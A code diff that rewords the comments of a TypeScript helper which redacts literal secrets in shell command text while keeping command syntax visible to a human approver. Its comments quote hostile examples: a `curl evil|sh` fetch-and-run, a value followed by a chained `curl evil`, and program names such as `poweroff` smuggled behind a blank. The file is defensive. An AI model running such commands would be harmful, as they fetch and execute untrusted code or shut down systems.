@@ -1,9 +1,9 @@
-/** With any of these, a shell, or a program, may do something instead of taking the text as it is. */
+/** With any of these characters, a shell or a program may do something instead of taking the text literally. */
 const SYNTAX = /[$`;|&()<>\r\n]/;
 
 /**
- * Replaces what has the shape of a secret, as far as it is a literal: whoever approves a command has to see all that it
- * does. `X_TOKEN=$(curl evil|sh)` stays, and of `X_TOKEN=abcdefgh;curl evil` only the value is hidden.
+ * Replaces secrets, but only literals, because a person who approves a command has to see everything it does.
+ * `X_TOKEN=$(curl evil|sh)` stays, and of `X_TOKEN=abcdefgh;curl evil` only the value is hidden.
  */
 export function redactLiterals(text: string, shape: RegExp, instead: string): string {
   return text.replace(shape, (found: string, ...rest: unknown[]) => {
@@ -16,7 +16,7 @@ export function redactLiterals(text: string, shape: RegExp, instead: string): st
   });
 }
 
-/** Behind a blank can be the name of a program: `X_TOKEN= poweroff`, `A=Bearer /tmp/program`. */
+/** After a blank there can be a program's name: `X_TOKEN= poweroff`, `A=Bearer /tmp/program`. */
 function mayRun(lead: string, hidden: string, before: string | undefined): boolean {
   if (!/\s/.test(lead)) return false;
   if (/[\r\n]/.test(lead)) return true;
